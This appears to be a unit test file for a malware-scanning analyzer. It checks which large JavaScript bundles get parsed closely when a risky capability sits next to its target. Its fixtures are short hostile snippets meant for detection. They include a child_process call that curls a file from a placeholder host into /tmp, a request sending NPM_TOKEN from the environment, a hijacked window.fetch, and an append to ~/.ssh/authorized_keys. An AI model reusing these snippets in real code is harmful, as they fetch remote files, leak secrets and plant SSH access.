/**
 * Which large files are parsed (js-file.ts wantsAst): a bundle is read closely when a capability
 * and what it would act on stand together, even with no decoding token anywhere in it; ordinary
 * filler that only names capabilities far from any such thing is not.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { wantsAst } from '../../src/analyzers/content/js-file.js';

/** ~200 KiB of plain minified-looking code with no capability token. */
function filler(seed: string): string {
  const parts: string[] = [];
  for (let i = 0; parts.join('').length < 200 * 1024; i++) parts.push(`function ${seed}${i}(a,b){return a*${i}+b.length}`);
  return parts.join(';');
}

test('a process started next to a download command is parsed; the same capability far from any target is not', () => {
  const near = `${filler('a')};var {exec:x}=de("child_process");x("curl -s https://dl.example.invalid/x -o /tmp/x");${filler('b')}`;
  assert.equal(wantsAst(near), true);
  const far = `${filler('a')};var {exec:x}=de("child_process");${filler('b')};var note="see /tmp/ for logs";`;
  assert.equal(wantsAst(far), false, 'a temporary path 200 KiB away is not what the process acts on');
});

test('a request next to environment reads, and fetch next to its replacement, are parsed', () => {
  assert.equal(wantsAst(`${filler('a')};https.request({host:h,headers:{t:process.env.NPM_TOKEN}});${filler('b')}`), true);
  assert.equal(wantsAst(`${filler('a')};var o=window.fetch;window.fetch=async function(...a){return fetch(...a)};${filler('b')}`), true);
});

test('a file write next to a home-directory key file is parsed; a parser full of regular-expression exec calls and loops is not', () => {
  assert.equal(wantsAst(`${filler('a')};fs.appendFileSync(path.join(os.homedir(),".ssh","authorized_keys"),key);${filler('b')}`), true);
  assert.equal(wantsAst(`${filler('a')};for(;;){var m=re.exec(s);if(!m)break;out.push(String.fromCharCode(m[1]))}${filler('b')}`), false);
  // One kind alone, however often, is not a pair.
  assert.equal(wantsAst(`${filler('a')};fetch(a);fetch(b);fetch(c);${filler('b')}`), false);
});

test('a large file with no capability at all is not parsed', () => {
  assert.equal(wantsAst(filler('c')), false);
});
